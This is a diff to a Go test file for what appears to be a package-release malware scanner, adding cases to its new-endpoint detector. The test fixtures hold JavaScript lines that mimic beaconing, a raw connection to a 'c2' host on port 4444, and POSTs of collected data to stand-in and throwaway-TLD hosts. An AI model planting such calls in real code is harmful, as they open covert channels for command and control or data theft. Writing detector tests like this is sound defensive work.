@@ -189,6 +189,10 @@ func TestContentDetectors(t *testing.T) {
 		{name: "first release spawning is not news", old: nil, new: map[string]string{"package.json": ctManifest, "cli.js": "require('child_process').execSync('ls');\n"}, id: ProcessSpawn},
 
 		// new-endpoint
+		{name: "host of a DNS query", new: ctAppend("dns.lookup('beacon.example.invalid', (e, a) => cb(a));"), id: NewEndpoint, want: true, sev: Medium, inTitle: "beacon.example.invalid"},
+		{name: "host of a raw connection", new: ctAppend("const c = net.createConnection(4444, 'c2.example.invalid');"), id: NewEndpoint, want: true, inTitle: "c2.example.invalid"},
+		{name: "throwaway TLD is high", new: ctAppend("fetch('https://cdn-stats.icu/collect', { method: 'POST' });"), id: NewEndpoint, want: true, sev: High, inTitle: ".icu"},
+		{name: "a docs URL in a message is low", new: ctAppend("console.warn('See https://docs.example.invalid/migrate for details');"), id: NewEndpoint, want: true, sev: Low},
 		{name: "new host in code", new: ctAppend("post('https://collect.example.invalid/v1', data);"), id: NewEndpoint, want: true, sev: Medium, inTitle: "collect.example.invalid"},
 		{name: "raw IP in code", new: ctAppend("http.get({ hostname: '203.0.113.7', path: '/raw/x' });"), id: NewEndpoint, want: true, sev: High, inTitle: "203.0.113.7"},
 		{name: "webhook label", new: ctAppend("post('https://webhook.example.invalid/abc', data);"), id: NewEndpoint, want: true, sev: High, inTitle: "webhook"},
